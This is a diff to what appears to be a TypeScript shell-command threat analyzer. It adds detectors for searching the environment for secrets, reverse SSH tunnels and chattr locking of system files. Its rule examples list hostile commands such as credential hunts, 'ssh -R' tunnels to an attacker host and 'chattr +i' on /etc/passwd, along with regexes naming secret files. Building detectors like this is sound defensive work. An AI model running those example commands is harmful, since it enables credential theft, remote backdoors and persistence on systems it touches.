@@ -1074,12 +1074,22 @@ function credReadFinding(ctx: CommandContext): Finding | null {
 
 const HUNT_TERMS = /passw|secret|api[_-]?key|token|private key|begin (?:rsa|openssh|ec) private|aws_secret|credential/i;
 const HUNT_NAMES = /id_rsa|id_ed25519|id_ecdsa|\*\.pem|\*\.key|\.kdbx|wallet\.dat|credentials|\.env\b|\.git-credentials|\.npmrc|\.pgpass|\.netrc|shadow|\*\.ppk|\*\.pfx|\*\.p12|keystore/i;
+const ENV_DUMPERS = new Set(['env', 'printenv', 'set', 'export', 'declare', 'typeset', 'compgen']);
+const ENV_SECRET_TERMS = /key|secret|token|passw|pwd|cred|auth|bearer|session/i;
 function huntFinding(ctx: CommandContext): Finding | null {
   return overCmds(ctx, (c) => {
     const wide = (p: string): boolean => judgeDeletePath(p, c.cwd, true).score >= 9 || p === '/home' || p === '/Users' || p.startsWith('/home/*') || p.startsWith('/Users/*') || p.startsWith('/root/');
     if ((c.name === 'grep' || c.name === 'rg' || c.name === 'egrep' || c.name === 'ag' || c.name === 'findstr') && (c.name !== 'grep' || shortFlag(c, 'r') || shortFlag(c, 'R') || has(c, '--recursive'))) {
       const pos = positional(c);
       if (pos.length >= 2 && HUNT_TERMS.test(pos[0]!) && pos.slice(1).some(wide)) return { detail: `${c.name} searches ${pos.slice(1).find(wide)} for ${pos[0]!.slice(0, 40)}`, score: 5 };
+    }
+    // env | grep -i key: the process environment searched for secrets (API keys, tokens, passwords live there)
+    if ((c.name === 'grep' || c.name === 'egrep' || c.name === 'rg' || c.name === 'findstr' || c.name === 'select-string') && c.stage > 0) {
+      const from = ctx.cmds.find((p) => p.pipeline === c.pipeline && p.stage === c.stage - 1 && p.depth === c.depth);
+      const term = positional(c)[0] ?? '';
+      if (from && ENV_DUMPERS.has(from.name) && positional(from).length === 0 && ENV_SECRET_TERMS.test(term)) {
+        return { detail: `${from.name} output searched for "${term.slice(0, 30)}" (secrets in environment variables)`, score: 5 };
+      }
     }
     if (c.name === 'find' || c.name === 'locate' || c.name === 'mdfind' || c.name === 'get-childitem' || c.name === 'dir') {
       const all = c.args.join(' ');
@@ -1888,6 +1898,51 @@ function fakePromptFinding(ctx: CommandContext): Finding | null {
   });
 }
 
+// ───────────────────────── tunnels, immutable files ─────────────────────────
+
+/** ssh options that take a value (the value may follow in the next word). */
+const SSH_VALUE_OPTS = 'BbcDEeFIiJLlmOoPpQRSWw';
+/** ssh -R / RemoteForward: a port on the remote host now leads into this machine (or its network). */
+function reverseTunnelFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    if (c.name !== 'ssh' && c.name !== 'autossh' && c.name !== 'plink' && c.name !== 'plink.exe') return null;
+    // autossh's own -M takes the monitor port
+    const valueOpts = c.name === 'autossh' ? `${SSH_VALUE_OPTS}M` : SSH_VALUE_OPTS;
+    let spec = '';
+    let host = '';
+    for (let i = 0; i < c.args.length && host === ''; i++) {
+      const a = c.args[i]!;
+      if (a.length > 1 && a[0] === '-' && a[1] !== '-') {
+        // a bundle of flags: the first one that takes a value ends it, the rest of the word (or the next word) is the value
+        for (let k = 1; k < a.length; k++) {
+          const f = a[k]!;
+          if (!valueOpts.includes(f)) continue;
+          const value = k + 1 < a.length ? a.slice(k + 1) : c.args[++i] ?? '';
+          if (f === 'R') spec = value;
+          else if (f === 'o' && /^remoteforward[= ]/i.test(value)) spec = value.slice(14);
+          break;
+        }
+      } else if (a[0] !== '-') host = a;
+    }
+    if (spec === '') return null;
+    return { detail: `${c.name} -R ${spec.slice(0, 40)}${host ? ` to ${host.slice(0, 60)}` : ''}: a remote port forwarded into this machine`, score: 5 };
+  });
+}
+
+/** Paths whose files an attacker locks to keep a foothold (or to stop them being repaired). */
+const LOCKED_SYSTEM_PATH = /^(?:\/etc|\/root|\/usr|\/bin|\/sbin|\/lib\w{0,4}|\/boot|\/var\/spool\/cron)(?:\/|$)|^(?:~|\$home|\/home\/[^/]{1,64})\/\.ssh(?:\/|$)|^~\/\.(?:bashrc|zshrc|profile|bash_profile)$/i;
+const CHATTR_ADD = /^\+[a-zA-Z]{1,16}$/;
+function immutableFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    if (c.name !== 'chattr') return null;
+    // attributes are case-sensitive: i (immutable) and a (append-only), not A (no atime updates)
+    const mode = c.args.find((a) => CHATTR_ADD.test(a) && (a.includes('i') || a.includes('a')));
+    if (mode === undefined) return null;
+    const target = c.args.find((a) => a !== mode && !a.startsWith('-') && !a.startsWith('+') && LOCKED_SYSTEM_PATH.test(a));
+    return target ? { detail: `chattr ${mode} ${target.slice(0, 60)}: a system file locked against changes and deletion`, score: 5 } : null;
+  });
+}
+
 // ───────────────────────── the table ─────────────────────────
 
 type Rule = ThreatRule<CommandContext>;
@@ -2090,11 +2145,11 @@ const rules: Rule[] = [
   },
   {
     id: 'C23', name: 'Credential hunting across the filesystem', primitive: 'EXFILTRATION', score: 5,
-    keywords: ['grep', 'rg', 'find', 'locate', 'mdfind', 'findstr', 'get-childitem', 'ag', 'dir'],
+    keywords: ['grep', 'rg', 'find', 'locate', 'mdfind', 'findstr', 'get-childitem', 'ag', 'dir', 'select-string'],
     detect: huntFinding,
     examples: {
-      flag: ['grep -rni "password" / 2>/dev/null', 'find / -name id_rsa 2>/dev/null', 'find ~ -name "*.pem" -o -name "*.key"', 'grep -r "aws_secret_access_key" /home'],
-      pass: ['grep -rn "password" src/', 'find . -name "*.pem"', 'grep -r TODO .', 'find / -name nginx.conf 2>/dev/null'],
+      flag: ['grep -rni "password" / 2>/dev/null', 'find / -name id_rsa 2>/dev/null', 'find ~ -name "*.pem" -o -name "*.key"', 'grep -r "aws_secret_access_key" /home', 'env | grep -i key', 'printenv | grep -iE "token|secret"'],
+      pass: ['grep -rn "password" src/', 'find . -name "*.pem"', 'grep -r TODO .', 'find / -name nginx.conf 2>/dev/null', 'env | grep PATH', 'printenv | grep -i node'],
     },
   },
   {
@@ -2306,6 +2361,24 @@ const rules: Rule[] = [
       pass: ['osascript -e \'display notification "Build finished"\'', 'zenity --info --text="Done"', 'osascript -e \'display dialog "Deploy to staging?" buttons {"No","Yes"}\''],
     },
   },
+  {
+    id: 'C47', name: 'Reverse SSH tunnel (remote port forwarded into this machine)', primitive: 'EXFILTRATION', score: 5,
+    keywords: ['ssh', 'plink'],
+    detect: reverseTunnelFinding,
+    examples: {
+      flag: ['ssh -R 8080:localhost:22 attacker@198.51.100.7', 'ssh -fNR 2222:127.0.0.1:22 relay@vps.example.net', 'autossh -M 0 -N -R 9000:10.0.0.5:3389 u@203.0.113.9', 'ssh -o RemoteForward=5900:localhost:5900 me@jump'],
+      pass: ['ssh -L 5432:localhost:5432 bastion.internal', 'ssh -N -L 8080:localhost:80 dev@box', "ssh deploy@web01 'ls -R /srv/app'", 'ssh -i ~/.ssh/deploy -p 2222 deploy@host uptime'],
+    },
+  },
+  {
+    id: 'C48', name: 'System file made immutable or append-only (chattr +i / +a)', primitive: 'PERSISTENCE', score: 5,
+    keywords: ['chattr'],
+    detect: immutableFinding,
+    examples: {
+      flag: ['chattr +i /etc/passwd', 'sudo chattr +i ~/.ssh/authorized_keys', 'chattr +ia /etc/cron.d/updater', 'chattr -R +i /usr/bin'],
+      pass: ['chattr -i /etc/resolv.conf', 'lsattr /etc/passwd', 'chattr +i ./release.lock', 'chattr +A /data/archive'],
+    },
+  },
 ];
 
 const commandAnalyzer: Analyzer<CommandContext> = {
@@ -2322,6 +2395,7 @@ const commandAnalyzer: Analyzer<CommandContext> = {
     ARG_PROD, ARG_NONPROD, ADMIN_POLICY, GCP_ADMIN_ROLE, AZ_ADMIN_ROLE, PUBLIC_CIDR, FREEMAIL, METADATA_CRED, SENSITIVE_BUCKET, CRED_STDIN, KERNEL_HARDENING, CRON_LINE, CRON_SHADY, ...REG_WEAKEN.flatMap((r) => [r[0], r[1]]),
     REMOTE_INSTALL_ARG, INSTALL_PREFIX, CERTUTIL_FETCH, HTA_FILE, URL_DLL, INF_DLL, INF_SECTION, PROXY_DLL, MSI_INSTALL, MSI_QUIET, WMIC_NODE, WMIC_LOCAL_NODE, WMIC_FORMAT, REMOTE_XSL,
     CMSTP_SILENT, UNINSTALL_FLAG, ASSEMBLY_FILE, CERTUTIL_DECODE, WIN_DRIVE, HIVE_SAVE, NTDS_COPY, HIST_OFF, CIPHER_WIPE, TAR_BUNDLE, TAR_SHORT_FLAGS,
+    ENV_SECRET_TERMS, LOCKED_SYSTEM_PATH, CHATTR_ADD,
   ],
 };
 export default commandAnalyzer;
